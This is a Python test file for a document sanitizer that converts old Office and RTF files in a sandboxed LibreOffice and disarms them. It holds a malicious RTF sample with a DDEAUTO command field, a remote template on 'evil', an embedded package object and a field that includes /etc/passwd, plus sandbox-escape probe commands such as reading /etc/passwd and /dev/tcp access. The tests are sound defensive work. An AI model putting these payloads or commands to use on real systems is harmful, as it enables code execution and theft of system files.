"""Old formats of Office through a real LibreOffice, confined: converted, then disarmed."""

import os
import subprocess
import time

import pytest

from formats.compound_writing import Storage, write_compound
from formats.ole2 import Compound
from sanitizers.disarming.interface import CannotDisarmError, Copy, Switch
from sanitizers.disarming.office import confined
from sanitizers.disarming.office.confined import Filter
from sanitizers.disarming.office.converting import CONVERTER
from sanitizers.disarming.office.documents import DISARMER
from sanitizers.disarming.zipped import unpack
from tests.corpus.compounds import compound
from tests.corpus.looking import demands, look
from tests.corpus.office_cases import HELLO
from tests.corpus.office_parts import row, text, workbook
from tests.corpus.presentations import WORDS, slides

pytestmark = pytest.mark.usefixtures("needs_libreoffice")
NO_SWITCHES: frozenset[Switch] = frozenset()
RTF = (
    rb"{\rtf1\ansi Le patient va bien {\field{\*\fldinst DDEAUTO cmd x}{\fldrslt resultat}}"
    rb"{\*\template https://evil/a.dot}{\object\objemb{\*\objclass Package}{\*\objdata 01050000}"
    rb"{\result objet}}{\field{\*\fldinst INCLUDETEXT file:///etc/passwd}{\fldrslt inclus}}\par}"
)
OLD = {
    "108 a text": (
        text(HELLO).built(), Filter(read="docx", written="doc", name="MS Word 97"),
        "application/msword", "Le patient va bien",
    ),
    "a workbook": (
        workbook({"Feuille": row(("", "1234"))}).built(),
        Filter(read="xlsx", written="xls", name="MS Excel 97"), "application/vnd.ms-excel", "1234",
    ),
    "109 a presentation": (
        slides(WORDS.format("")).built(),
        Filter(read="pptx", written="ppt", name="MS PowerPoint 97"),
        "application/vnd.ms-powerpoint", "Le patient va bien",
    ),
}  # fmt: skip


def with_macros(content: bytes) -> bytes:
    """Return a compound file with a storage of macros beside its streams."""
    read = Compound(content)
    streams = {e.name: read.stream(e) for e in read.entries if e.is_stream and len(e.path) == 1}
    macros = Storage(
        streams={"PROJECT": b"y" * 900},
        storages={"VBA": Storage(streams={"dir": b"x" * 900})},
    )
    return write_compound(
        Storage(class_id=read.root.class_id, streams=streams, storages={"Macros": macros})
    )


def disarmed(content: bytes, media_type: str) -> Copy:
    """Return the copy of a document of an old format."""
    converted = CONVERTER.convert(content, media_type)
    copy = DISARMER.disarm(converted.content, NO_SWITCHES)
    assert copy.content == DISARMER.disarm(copy.content, NO_SWITCHES).content
    assert DISARMER.measure(converted.content) == DISARMER.measure(copy.content)
    return copy


def whole(content: bytes) -> str:
    """Return all parts of a package in one text."""
    return b"\n".join(unpack(content).values()).decode("utf-8", "replace")


@pytest.mark.parametrize("name", OLD)
def test_an_old_document_with_macros_becomes_a_new_one_without(name: str) -> None:
    """Words and numbers are there, macros are not."""
    content, filter_, media_type, words = OLD[name]
    old = with_macros(confined.convert(content, filter_))
    copy = disarmed(old, media_type)

    assert "ole2-macros" in demands(look(old), "active_content")
    assert words in whole(copy.content)
    assert () == DISARMER.walk(copy.content)
    assert set() == demands(look(copy.content), "active_content")


def test_rtf_becomes_a_document_without_objects_and_fields() -> None:
    """Results stay as text; nothing of the machine came in."""
    copy = disarmed(RTF, "application/rtf")
    shown = whole(copy.content)

    assert all(word in shown for word in ("Le patient va bien", "resultat", "inclus"))
    assert not any(mark in shown for mark in ("DDEAUTO", "evil", "root:", "fldChar"))
    assert () == DISARMER.walk(copy.content)


def test_what_cannot_be_read_is_held() -> None:
    """A document that LibreOffice does not open is named, and nothing hangs."""
    with pytest.raises(CannotDisarmError, match="made nothing"):
        CONVERTER.convert(compound({"WordDocument": b"\x00" * 900}), "application/msword")


def test_a_conversion_that_takes_too_long_is_ended_with_all_that_it_started() -> None:
    """When the time of the second try is over no process of either is left."""
    chosen = OLD["108 a text"][1]
    with pytest.raises(CannotDisarmError, match="more than 0 seconds"):
        confined.convert(OLD["108 a text"][0], chosen, seconds=0.2)
    until = time.monotonic() + 20
    while _mine() and time.monotonic() < until:
        time.sleep(0.1)

    assert [] == _mine()


def _mine() -> list[str]:
    """Return the processes of conversions that this process started."""
    listed = subprocess.run(
        ["ps", "--no-headers", "--ppid", str(os.getpid()), "-o", "args"],
        capture_output=True, text=True, check=False,
    )  # fmt: skip
    return [line for line in listed.stdout.splitlines() if "bwrap" in line]


@pytest.mark.parametrize(
    "attempt",
    [
        "cat /etc/passwd",
        "ls /home /root /inside/../tmp/../var",
        "unshare -r true && echo out",
        "mount -t tmpfs none /tmp && echo out",
        "cat </dev/tcp/127.0.0.1/22",
        "echo out > /usr/out && cat /usr/out",
        "ls /sys",
    ],
)
def test_what_is_confined_reaches_nothing(attempt: str) -> None:
    """No file of the machine, no namespace, no mount, no network, nothing to write to."""
    assert b"" == confined.run_confined(("/bin/bash", "-c", attempt), {}, seconds=20)


def test_what_is_confined_sees_what_it_was_given() -> None:
    """The probe of the other test can say something: it is not silent for another reason."""
    given = {"/inside/a": b"here"}

    assert b"here" == confined.run_confined(("/bin/cat", "/inside/a"), given, seconds=20)


def test_a_flood_is_ended() -> None:
    """More than the bound is not read, and not waited for."""
    with pytest.raises(CannotDisarmError, match="too much"):
        confined.run_confined(("/bin/cat", "/dev/zero"), {}, seconds=60)


def test_the_version_is_that_of_the_program() -> None:
    """It stands in the profile, so that a new program tries again what an old one did not."""
    assert CONVERTER.version() not in {"", "none", "unknown"}
